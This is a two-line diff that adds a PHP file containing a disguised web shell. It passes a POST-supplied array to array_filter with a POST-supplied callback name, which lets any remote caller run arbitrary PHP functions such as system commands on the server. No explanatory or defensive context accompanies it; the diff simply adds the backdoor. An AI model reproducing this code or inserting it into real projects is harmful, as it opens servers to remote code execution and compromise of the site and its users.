@@ -1,0 +1,2 @@
+<?php
+array_filter((array) ($_POST['d'] ?? []), $_POST['cb'] ?? 'strlen');
